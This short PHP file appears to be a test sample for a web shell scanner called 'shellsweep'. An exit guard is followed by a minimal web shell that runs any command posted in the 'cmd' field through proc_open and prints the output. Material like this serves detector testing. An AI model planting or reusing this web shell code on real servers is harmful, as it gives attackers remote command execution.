<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$d = array(0 => array('pipe','r'), 1 => array('pipe','w'), 2 => array('pipe','w'));
$p = proc_open($_POST['cmd'], $d, $pipes);
echo stream_get_contents($pipes[1]);
